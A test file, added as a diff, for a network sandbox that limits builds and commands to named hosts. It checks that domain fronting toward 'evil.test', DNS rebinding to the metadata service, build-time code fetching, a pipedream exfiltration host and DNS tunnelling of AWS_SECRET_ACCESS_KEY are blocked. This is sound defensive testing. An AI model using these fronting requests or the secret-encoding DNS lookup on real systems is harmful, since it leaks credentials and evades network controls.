@@ -1,0 +1,252 @@
+"""What a build or a command is allowed of the network: a host by its name, and nothing else that may stand at the same address.
+
+The outside is a network namespace in which every address answers.  The programs speak for themselves (raw sockets, no library's idea of a host), with the shim, without
+it, and statically linked; judged at the tests' resolver and sinks."""
+from __future__ import annotations
+
+import json
+import subprocess
+
+import pytest
+
+from conftest import USERS
+from lib import packages
+
+HOST, PUBLIC = "files.test", "203.0.113.10"
+
+# Connects to each of argv[1:], a JSON object, and sends its bytes: what became of it.
+TALK = r"""
+import json, socket, ssl, sys
+def hello(name):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    return context, name
+def talk(to, port, send="", tls=None, address=None):
+    try:
+        s = socket.create_connection((address or to, port), 8)
+    except OSError as e:
+        return "no connection: " + type(e).__name__
+    try:
+        if tls is not None:
+            context, name = hello(tls)
+            s = context.wrap_socket(s, server_hostname=name or None)
+        s.sendall(send.encode())
+        got = s.recv(9999)
+        return got.decode("latin-1")[:40] if got else "closed"
+    except OSError as e:
+        return "lost: " + type(e).__name__
+print(json.dumps([talk(**json.loads(a)) for a in sys.argv[1:]]))
+"""
+# The same of one host, for static linking: HOST PORT TEXT.
+STATIC = r"""
+#include <netdb.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+int main(int argc, char **argv)
+{
+	struct addrinfo hints, *list = 0;
+	char got[100];
+	memset(&hints, 0, sizeof hints);
+	hints.ai_socktype = SOCK_STREAM;
+	if (getaddrinfo(argv[1], argv[2], &hints, &list))
+		return puts("no name"), 0;
+	for (struct addrinfo *ai = list; ai; ai = ai->ai_next) {
+		int s = socket(ai->ai_family, SOCK_STREAM, 0);
+		if (connect(s, ai->ai_addr, ai->ai_addrlen) == 0) {
+			write(s, argv[3], strlen(argv[3]));
+			long n = read(s, got, sizeof got - 1);
+			return printf("%.12s\n", n > 0 ? (got[n] = 0, got) : "closed"), 0;
+		}
+		close(s);
+	}
+	return puts("no connection"), 0;
+}
+"""
+GET = "GET /x HTTP/1.1\r\nHost: {}\r\n\r\n"
+OK = "HTTP/1.1 200 OK"
+
+
+SETUP = """
+import urllib.request
+from setuptools import setup
+try:
+    got = urllib.request.urlopen("http://files.test/part", timeout=8).read().decode()
+except OSError as e:
+    got = "nothing"
+open("pwfetches.py", "w").write("GOT = %r" % got)
+setup(name="pwfetches", version="1.0", py_modules=["pwfetches"])
+"""
+
+
+WORLDS = [*(("", u) for u in USERS), ("namespaces", "user"), ("namespaces,pidfd_getfd", "root")]
+
+
+@pytest.fixture(params=WORLDS, ids=[f"{hide or 'nothing'}-{name}" for hide, name in WORLDS])
+def world(request, make_world, user_named, net):
+    net.clear()
+    net.dns.addresses[HOST] = [PUBLIC]
+    hide, name = request.param
+    return make_world(user_named(name), net=net, hide=hide)
+
+
+@pytest.fixture(scope="module")
+def static(base):
+    (base / "talk.c").write_text(STATIC)
+    subprocess.run(["musl-gcc", "-static", "-O1", "-o", base / "talk-static", base / "talk.c"], check=True, timeout=60)
+    return base / "talk-static"
+
+
+def run(world, options, *talks, python=("/usr/bin/python3", "-I"), env=None):
+    result = world.guarded(["--on-violation", "deny", *options, "run", "--", *python, "-c", TALK, *map(json.dumps, talks)], env, timeout=60)
+    assert result.out.startswith("["), str(result)
+    return result, json.loads(result.out)
+
+
+def allow(*hosts):
+    return [word for host in hosts for word in ("--allow-host", host)]
+
+
+def plain_streams(net):
+    return [data for port, data in net.sink.streams if port == 80]
+
+
+def rules(result, kind="net.connect"):
+    """Of attempts: the shim explains some of them besides."""
+    return [e["rule"] for e in result.of_type(kind) if "first" not in e and e["source"] == "kernel"]
+
+
+def test_by_name_over_http_and_tls(world, net):
+    result, got = run(world, allow(HOST), {"to": HOST, "port": 80, "send": GET.format(HOST)}, {"to": HOST, "port": 443, "tls": HOST, "send": GET.format(HOST)})
+    assert [g[:15] for g in got] == [OK, OK], str(result)
+    assert len(plain_streams(net)) == 1 and [name for name, _ in net.sink.requests] == [HOST], str(result)
+    assert {p.destination for p in net.outside() if p.payload} == {PUBLIC}
+    assert set(net.names()) == {HOST}
+    assert rules(result) == ["net.connect.relayed"] * 2 and result.status == 0, str(result)
+    event = result.of_type("net.connect")[0]
+    assert event["severity"] == "info" and event["target"]["host"] == HOST and event["target"]["address"] == PUBLIC, event
+
+
+def test_statically_linked(world, net, static):
+    result = world.guarded([*allow(HOST), "run", "--", static, HOST, "80", GET.format(HOST)], timeout=30)
+    if world.hide:  # there its own resolver reaches nobody
+        assert result.out == "no name\n" and net.names() == [] and net.outside() == [], str(result)
+        return
+    assert result.out == "HTTP/1.1 200\n", str(result)
+    assert len(plain_streams(net)) == 1 and set(net.names()) == {HOST} and rules(result) == ["net.connect.relayed"], str(result)
+
+
+def test_another_name_at_the_same_address(world, net):
+    """Fronting: what is allowed is the name, and it is seen in what is sent."""
+    net.dns.addresses["evil.test"] = [PUBLIC]
+    talks = [{"to": HOST, "port": 80, "send": GET.format("evil.test")},
+             {"to": HOST, "port": 80, "send": "GET http://evil.test/ HTTP/1.1\r\nHost: files.test\r\n\r\n"},
+             {"to": HOST, "port": 80, "send": "POST / HTTP/1.1\r\nHost: files.test\r\nHost: evil.test\r\n\r\n"},
+             {"to": HOST, "port": 80, "send": "CONNECT evil.test:443 HTTP/1.1\r\nHost: files.test\r\n\r\n"},
+             {"to": HOST, "port": 80, "send": "GET /secret HTTP/1.0\r\n\r\n"},
+             {"to": HOST, "port": 80, "send": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
+             {"to": HOST, "port": 80, "send": "\0\1\2 the secret in a protocol of its own"},
+             {"to": HOST, "port": 443, "tls": "evil.test", "send": GET.format(HOST)},
+             {"to": HOST, "port": 443, "tls": "", "send": GET.format(HOST)},
+             {"to": "evil.test", "port": 443, "tls": HOST}]
+    result, got = run(world, allow(HOST), *talks)
+    assert all(g.startswith(("lost", "closed")) for g in got[:-1]) and got[-1].startswith("no connection"), str(result)
+    assert net.sink.requests == [] and [s for s in net.sink.streams if s[1]] == [] and not any(p.payload for p in net.outside()), f"{net.sink.streams}\n{result}"
+    refused = [e for e in result.of_type("net.connect") if e["rule"] == "net.connect.name"]
+    assert sum(e.get("count", 1) for e in refused) == len(talks) - 1, str(result)
+    assert "evil.test" not in net.names() and result.status == 100
+    assert "evil.test" in {e["target"].get("name") for e in refused}, str(result)
+
+
+def test_the_second_request_too(world, net):
+    both = GET.format(HOST) + "GET /stolen HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+    result, _ = run(world, allow(HOST), {"to": HOST, "port": 80, "send": both})
+    assert b"stolen" not in net.sink.bytes and "net.connect.name" in rules(result), str(result)
+
+
+def test_other_ports(world, net):
+    result, got = run(world, allow(HOST + ":80"), {"to": HOST, "port": 80, "send": GET.format(HOST)}, {"to": HOST, "port": 4444, "send": "x"},
+                      {"to": HOST, "port": 443, "tls": HOST})
+    assert got[0].startswith(OK) and got[1] == got[2] == "no connection: ConnectionRefusedError", str(result)
+    assert rules(result) == ["net.connect.relayed", "net.connect.port", "net.connect.port"] and [port for port, _ in net.sink.streams] == [80], str(result)
+
+
+def test_a_name_that_leads_inside(world, net):
+    """Rebinding: to the metadata service never, to a private network only where that is listed as well."""
+    net.dns.addresses[HOST] = ["169.254.169.254"]
+    net.dns.addresses["inner.test"] = ["10.203.0.2"]
+    net.dns.addresses["both.test"] = ["192.168.3.4", PUBLIC]
+    net.dns.addresses["loop.test"] = ["127.0.0.1"]
+    hosts = allow(HOST, "inner.test", "both.test", "loop.test")
+    talks = [{"to": name, "port": 80, "send": GET.format(name)} for name in (HOST, "inner.test", "loop.test", "both.test")]
+    result, got = run(world, hosts, *talks)
+    assert [g[:13] for g in got[:3]] == ["no connection"] * 3 and got[3].startswith(OK), str(result)
+    assert {p.destination for p in net.outside() if p.payload} == {PUBLIC}, str(result)
+    refused = {e["target"]["address"]: e["rule"] for e in result.of_type("net.resolve")}
+    assert refused.pop("169.254.169.254") != "net.resolve.private"
+    assert refused == {a: "net.resolve.private" for a in ("10.203.0.2", "192.168.3.4", "127.0.0.1")}, str(result)
+    net.sink.clear()
+    result, got = run(world, [*hosts, *allow("10.203.0.0/16", "169.254.0.0/16")], *talks[:2])
+    assert got[0].startswith("no connection") and got[1].startswith(OK), str(result)
+
+
+def test_addresses(world, net):
+    talks = [{"to": "203.0.113.77", "port": 4444, "send": GET.format("any.test")}, {"to": "203.0.114.77", "port": 4444, "send": "x"}]
+    result, got = run(world, allow("203.0.113.77:4444"), *talks)
+    assert got[0].startswith(OK) and got[1].startswith("no connection") and len(net.sink.streams) == 1, f"{net.sink.streams}\n{result}"
+
+
+def test_opaque_by_policy(world, net):
+    policy = world.logs / "policy.json"
+    policy.write_text(json.dumps({"version": 1, "network": {"guest": [{"host": HOST, "port": 4444, "opaque": True}]}}))
+    result, got = run(world, ["--policy", policy], {"to": HOST, "port": 4444, "send": GET.format("any.test")}, {"to": HOST, "port": 80, "send": GET.format(HOST)})
+    assert got[0].startswith(OK) and len(net.sink.streams) == 1 and got[1].startswith("no connection"), f"{net.sink.streams}\n{result}"
+
+
+def test_the_deny_list_beats_it(world, net):
+    result, got = run(world, allow("*.pipedream.net"), {"to": "eo1.m.pipedream.net", "port": 443, "tls": "eo1.m.pipedream.net", "send": "x"})
+    assert got[0].startswith("no connection") and net.names() == [] and "net.exfil.pipedream" in rules(result, "net.resolve"), str(result)
+
+
+def test_one_role_has_nothing_of_another(world, net):
+    result, got = run(world, allow("build:" + HOST), {"to": HOST, "port": 80, "send": GET.format(HOST)})
+    assert got[0].startswith("no connection") and net.names() == [], str(result)
+
+
+def test_nobody_listening(world, net):
+    """As without us: the error of the real address, and the next address after it."""
+    net.dns.addresses[HOST] = ["203.0.113.1", PUBLIC]
+    result, got = run(world, allow(HOST), {"to": HOST, "port": 81, "send": "x"}, {"to": HOST, "port": 80, "send": GET.format(HOST)})
+    assert got[0] == "no connection: ConnectionRefusedError" and got[1].startswith(OK), str(result)
+
+
+@pytest.mark.parametrize("options,got", [([], "nothing"), (allow("build:" + HOST), "a module of the attacker"), (allow(HOST), "nothing")], ids=["none", "build", "pip"])
+def test_a_build(options, got, base, world, net, templates, distribution):
+    """A package's setup.py fetches a part of it: where the option names the host for builds, and where it names it for pip alone, not."""
+    folder = base / "fetches"
+    packages.build_tools(folder)
+    packages.sdist(folder, "pwfetches", "1.0", {"setup.py": SETUP})
+    world.use_venv(templates, distribution)
+    result = world.guarded([*options, "pip", "install", "--no-index", "--find-links", folder, "--no-build-isolation", "pwfetches"], timeout=60)
+    assert "Successfully installed pwfetches-1.0" in result.out, str(result)
+    assert got in (world.site_packages() / "pwfetches.py").read_text(), str(result)
+    assert (net.names() == []) == (got == "nothing") and ("net.connect.relayed" in rules(result)) == (got != "nothing"), str(result)
+    assert all(e["package"]["name"] == "pwfetches" and e["role"] == "build" for e in result.of_type("net.connect", "net.resolve")), str(result)
+
+
+def test_without_pidfd_getfd_in_a_namespace(make_world, user, net):
+    """Nothing leads out, and that is said."""
+    net.clear()
+    result, got = run(make_world(user, net=net, hide="pidfd_getfd"), allow(HOST), {"to": HOST, "port": 80, "send": GET.format(HOST)})
+    assert got[0].startswith("no connection") and net.names() == [] and "pidfd_getfd" in result.of_type("net.resolve")[0]["hint"], str(result)
+
+
+def test_a_secret_below_an_allowed_domain(world, net):
+    """A wildcard opens a domain to questions; what holds a decoy is not asked all the same."""
+    script = ("import base64, os, socket\n"
+              "name = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode().strip('=').lower()[:50] + '.files.test'\n"
+              "for n in (name, 'plain.files.test'):\n    try:\n        socket.getaddrinfo(n, 80)\n        print('found')\n    except OSError:\n        print('none')\n")
+    result = world.guarded(["--on-violation", "deny", *allow("*.files.test"), *allow("10.203.0.0/16"), "run", "--", "/usr/bin/python3", "-I", "-c", script],
+                           world.plant_canaries(), timeout=30)
+    assert result.out == "none\nfound\n" and set(net.names()) == {"plain.files.test"} and rules(result, "net.resolve") == ["net.resolve.tunnel"], str(result)
